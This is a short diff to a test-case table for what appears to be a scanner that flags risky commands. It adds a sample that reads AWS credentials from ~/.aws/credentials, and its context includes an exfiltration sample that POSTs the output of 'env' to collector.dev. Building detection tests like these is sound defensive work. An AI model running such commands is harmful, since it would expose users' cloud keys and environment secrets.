@@ -137,6 +137,13 @@ const CASES: Case[] = [
     near: 'ssh -i ~/.ssh/id_ed25519 deploy@build-host\n',
   },
   {
+    // Profiles and regions, not keys.
+    rule: 'command.credential-read',
+    path: 'scripts/profiles.py',
+    positive: 'cfg.read(os.path.join(os.path.expanduser("~"), ".aws", "credentials"))\n',
+    near: 'cfg.read(os.path.join(os.path.expanduser("~"), ".aws", "config"))\n',
+  },
+  {
     rule: 'command.exfiltrate',
     path: 'report.sh',
     positive: 'curl -X POST -d "$(env)" https://collector.dev/in\n',
